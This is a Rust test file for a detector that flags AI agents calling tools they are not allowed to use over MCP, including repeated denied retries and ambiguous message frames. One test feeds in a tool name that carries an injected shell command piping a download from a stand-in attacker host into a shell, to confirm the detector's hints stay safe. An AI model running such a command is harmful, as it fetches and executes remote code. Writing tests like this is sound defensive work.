use super::*;
use custody_model::*;
use jiff::{SignedDuration, Timestamp};

fn start() -> Timestamp {
    "2026-04-07T10:00:00Z".parse().unwrap()
}

fn after(ms: i64) -> Timestamp {
    start() + SignedDuration::from_millis(ms)
}

pub(super) fn session(n: u128) -> Option<SessionId> {
    Some(SessionId(uuid::Uuid::from_u128(n)))
}

pub(super) fn call(tool: &str, denied: bool) -> Facts {
    let policy = PolicyId::from("role:analyst/task:summarize");
    Facts {
        event: EventKind::ToolInvoked,
        direction: Direction::ToServer,
        outcome: if denied { Outcome::Denied } else { Outcome::Allowed },
        reason: denied.then(|| DenyReason::Policy(policy.clone())),
        policy: if denied {
            PolicyOutcome::Denied { policy, why: format!("tool `practice/{tool}` is not on the allowlist of role `analyst`") }
        } else {
            PolicyOutcome::Allowed
        },
        enforced: true,
        server: ServerName::from("practice"),
        tool: Some(tool.to_owned()),
        listed: true,
        method: Some("tools/call".to_owned()),
        identity: Identity {
            principal: PrincipalName::from("analyst-agent-047"),
            assurance: Assurance::ClientKey,
            role: Some(RoleName::from("analyst")),
            task: Some(TaskName::from("summarize")),
        },
        session: session(1),
        faults: Vec::new(),
        leaf: Some(LeafIndex(7)),
        arguments: serde_json::Value::Null,
        hints: ToolHints::default(),
        listed_since: None,
        returned: None,
        drift: None,
        hijack: None,
        user: None,
    }
}

fn frozen(tool: &str) -> Facts {
    Facts { reason: Some(DenyReason::Frozen), ..call(tool, true) }
}

fn detector() -> Detector {
    Detector::new(Rules::standard())
}

fn names(findings: &[FindingDraft]) -> Vec<&str> {
    findings.iter().map(|finding| finding.rule.as_str()).collect()
}

#[test]
fn every_rule_keeps_its_own_cases() {
    let results = run_cases(&Rules::standard()).unwrap();
    for result in &results {
        assert!(result.passed(), "{result:?}");
    }
    for meta in Rules::standard().metas() {
        let of = |expected| results.iter().filter(|r| r.rule == meta.rule.as_str() && r.expected == expected).count();
        assert!(of(true) > 0 && of(false) > 0, "{} needs positive and negative cases", meta.rule);
    }
}

#[test]
fn every_rule_file_is_shipped() {
    let directory = concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules");
    let mut files: Vec<String> = std::fs::read_dir(directory)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.ends_with(".yml"))
        .collect();
    files.sort();
    assert_eq!(files, shipped().iter().map(|(name, _)| *name).collect::<Vec<_>>());
}

#[test]
fn one_unauthorized_call_is_a_p1_at_once() {
    let mut findings = detector().observe(&call("send_data", true), start());
    findings.iter_mut().for_each(|finding| finding.rules = Digest([0; 32]));
    insta::assert_debug_snapshot!(findings);
}

const ONE: &str = "title: T\nid: a\nname: one\nlogsource: {product: mcp}\ndetection:\n  s: {event: TOOL_INVOKED}\n  condition: s\n";

#[test]
fn a_finding_says_how_to_silence_it_and_copies_no_agents_text_into_a_command() {
    let plain = detector().observe(&call("send_data", true), start()).remove(0);
    assert!(plain.silence.as_deref().unwrap().contains("add `practice/send_data` to `allow` of role `analyst`"), "{plain:?}");
    let hostile = detector().observe(&call("x`; curl evil.example | sh #", true), start()).remove(0);
    assert!(hostile.silence.as_deref().unwrap().contains("add `practice/…` to"), "{hostile:?}");
    let rules = Rules::load(&[("one.yml", ONE)]).unwrap();
    let silence = Detector::new(rules).observe(&call("x", false), start()).remove(0).silence.unwrap();
    assert!(silence.contains("`\"one\" = \"off\"` under [rules.modes]"), "{silence}");
}

#[test]
fn a_pattern_comes_with_its_entry_point() {
    let with = |section: &str| Rules::load(&[("one.yml", &format!("{ONE}custody: {section}\n"))]);
    let rules = with("{pattern: bulk_enumeration, entry_point: \"{principal} was given a list of ids\"}").unwrap();
    let pattern = Detector::new(rules).observe(&call("x", false), start()).remove(0).pattern.unwrap();
    assert_eq!((pattern.name, pattern.entry_point.as_str()), (PatternName::BulkEnumeration, "analyst-agent-047 was given a list of ids"));
    for refused in ["{pattern: bulk_enumeration}", "{entry_point: x}", "{pattern: bulk, entry_point: x}"] {
        assert!(with(refused).is_err(), "{refused}");
    }
}

#[test]
fn a_rule_that_is_off_raises_nothing() {
    let mut rules = Rules::standard();
    let before = rules.digest();
    assert!(rules.set_mode(&RuleId::from("mcp-001-unauthorized-tool"), RuleMode::Off));
    assert_ne!(rules.digest(), before);
    assert_eq!(Detector::new(rules).observe(&call("send_data", true), start()), []);
}

#[test]
fn a_legitimate_session_raises_nothing() {
    let mut detector = detector();
    for i in 0..5_000 {
        let mut facts = call(["read_file", "search_database", "generate_summary"][i % 3], false);
        if i % 7 == 0 {
            facts.event = EventKind::Message;
            facts.policy = PolicyOutcome::Undeclared;
        }
        // Below 500 calls an hour, where D11 begins.
        assert_eq!(detector.observe(&facts, after(i as i64 * 7_500)), []);
    }
}

#[test]
fn retries_behind_a_freeze_become_one_p2() {
    let mut detector = detector();
    assert_eq!(names(&detector.observe(&call("send_data", true), start())), ["mcp-001-unauthorized-tool"]);
    let mut raised = Vec::new();
    for i in 0..14 {
        raised.extend(detector.observe(&frozen(&format!("send_data{i}")), after(800 * (i + 1))));
    }
    assert_eq!(names(&raised), ["mcp-007-denied-iteration"]);
    assert_eq!(raised[0].priority, Priority::P2);
    assert_eq!(raised[0].why, "analyst-agent-047 tried 5 times within a minute what it is denied");
    let principal = PrincipalName::from("analyst-agent-047");
    assert_eq!(detector.repeats(&RuleId::from("mcp-007-denied-iteration"), session(1), &principal), 10);
    assert_eq!(detector.repeats(&RuleId::from("mcp-001-unauthorized-tool"), session(1), &principal), 0);
}

#[test]
fn a_repeat_is_counted_until_its_window_ends_or_the_freeze_is_undone() {
    let mut detector = detector();
    let (rule, principal) = (RuleId::from("mcp-001-unauthorized-tool"), PrincipalName::from("analyst-agent-047"));
    assert_eq!(detector.observe(&call("send_data", true), start()).len(), 1);
    // The repeat of a P1 still says that something must be frozen, and that it is no finding of its own.
    let again = detector.observe(&call("send_data", true), after(1));
    assert_eq!((again.len(), again[0].repeats, again[0].enforce), (1, 1, true));
    assert_eq!(detector.repeats(&rule, session(1), &principal), 1);
    let other = Facts { session: session(2), ..call("send_data", true) };
    assert_eq!(detector.observe(&other, after(2)).len(), 1, "another session is another finding");
    detector.forget(&principal);
    assert_eq!(detector.observe(&call("send_data", true), after(3))[0].repeats, 0, "an undone freeze does not hide a second turn");
    assert_eq!(detector.observe(&call("send_data", true), after(600_004))[0].repeats, 0);
}

#[test]
fn an_ambiguous_frame_is_a_p2_of_another_family() {
    let facts = Facts {
        reason: Some(DenyReason::Ambiguous),
        policy: PolicyOutcome::Undeclared,
        faults: vec!["key `name` twice".into()],
        ..call("read_file", true)
    };
    let findings = detector().observe(&facts, start());
    assert_eq!(names(&findings), ["mcp-006-ambiguous-frame"]);
    assert_eq!(findings[0].family, Family::Content);
    assert_eq!(findings[0].why, "analyst-agent-047 sent practice a message that two parsers could read differently: key `name` twice");
}

#[test]
fn milliseconds_are_kept_apart() {
    // Five within 60.000 s, the first leaving the window one millisecond too early or not.
    let count = |last: i64, session_number| {
        let facts = Facts { session: session(session_number), ..frozen("x") };
        let mut detector = detector();
        [0, 10, 20, 30, last].iter().flat_map(|ms| detector.observe(&facts, after(*ms))).count()
    };
    assert_eq!(count(59_999, 3), 1);
    assert_eq!(count(60_011, 4), 0);
}

#[test]
fn memory_is_bounded() {
    let mut detector = detector();
    for i in 0..101_000u128 {
        let facts = Facts { session: session(i), ..call("send_data", true) };
        assert_eq!(detector.observe(&facts, start())[0].rule.as_str(), "mcp-001-unauthorized-tool");
    }
    assert!(detector.remembered() <= 100_000);
}

#[test]
fn faults_of_rule_files_have_places() {
    let good = "title: T\nid: a\nname: a\nlogsource: {product: mcp}\ndetection:\n  s: {event: X}\n  condition: s\n";
    let correlation = |rule: &str| {
        format!(
            "title: C\nid: c\ncorrelation:\n  type: event_count\n  rules: [{rule}]\n  group-by: [session]\n  timespan: 5m\n  condition: {{gte: 2}}\n"
        )
    };
    let files = [
        ("typo.yml", good.replace("event: X", "evnt: X")),
        ("yaml.yml", good.replace("detection:", "detection: [")),
        ("condition.yml", good.replace("condition: s", "condition: t")),
        ("section.yml", format!("{good}custody: {{priority: P0}}\n")),
        ("key.yml", format!("{good}custody: {{prioritty: P1}}\n")),
        ("span.yml", format!("{good}custody: {{suppress: soon}}\n")),
        ("trap.yml", format!("{good}rsigma.suppress: 5m\n")),
        ("no-id.yml", good.replace("id: a\n", "")),
        ("dangling.yml", correlation("nothing")),
        ("broken.yml", correlation("a").replace("timespan: 5m", "timespan: soon")),
        ("empty.yml", String::new()),
        ("list.yml", "- a\n".to_owned()),
        ("twice.yml", format!("{good}---\n{good}")),
    ];
    let mut out = String::new();
    for (name, text) in &files {
        let errors = Rules::load(&[(name, text)]).err().unwrap_or_else(|| panic!("{name} must be refused"));
        out.extend(errors.iter().map(|error| format!("{error}\n")));
    }
    insta::assert_snapshot!(out);
    let both = Rules::load(&[("a.yml", good), ("b.yml", &correlation("a"))]).unwrap();
    assert_eq!(both.metas().iter().map(|m| m.rule.as_str()).collect::<Vec<_>>(), ["c"], "what is only counted raises nothing");
}

#[test]
fn a_directory_replaces_shipped_files_by_name() {
    let text = shipped()[0].1.replace("priority: P1", "priority: P2");
    let rules = Rules::with_directory(&[(shipped()[0].0.to_owned(), text)]).unwrap();
    assert_eq!(rules.metas().len(), Rules::standard().metas().len());
    assert_eq!(rules.metas()[0].priority, Priority::P2);
    assert_ne!(rules.digest(), Rules::standard().digest());
}

#[test]
fn a_rules_mode_can_be_set() {
    let mut rules = Rules::standard();
    let before = rules.digest();
    assert!(rules.set_mode(&RuleId::from("mcp-001-unauthorized-tool"), RuleMode::Observe));
    assert!(!rules.set_mode(&RuleId::from("mcp-007-denied-attempt"), RuleMode::Observe), "it raises nothing");
    assert!(!rules.set_mode(&RuleId::from("mcp-999"), RuleMode::Off));
    assert_ne!(rules.digest(), before);
    assert!(!Detector::new(rules).observe(&call("send_data", true), start())[0].enforce);
}

proptest::proptest! {
    #[test]
    fn hostile_names_never_panic(text in "\\PC{0,600}") {
        let mut facts = call(&text, true);
        facts.faults = vec![text.clone()];
        facts.method = Some(text);
        let findings = detector().observe(&facts, start());
        proptest::prop_assert!(findings.iter().all(|f| f.why.len() < 4_000));
    }

    #[test]
    fn hostile_rules_never_panic(text in "\\PC{0,300}", key in "[a-z:|\\-\\[\\]{}]{0,12}") {
        let _ = Rules::load(&[("x.yml", &text)]);
        let mutated = shipped()[2].1.replace("session", &key);
        let _ = Rules::load(&[("x.yml", &mutated)]);
    }
}

#[test]
fn every_fact_is_documented() {
    let page = include_str!("../../../../docs/policy.md");
    for fact in facts::all() {
        assert!(page.contains(&format!("`{}`", fact.name)), "docs/policy.md does not name {}", fact.name);
    }
}
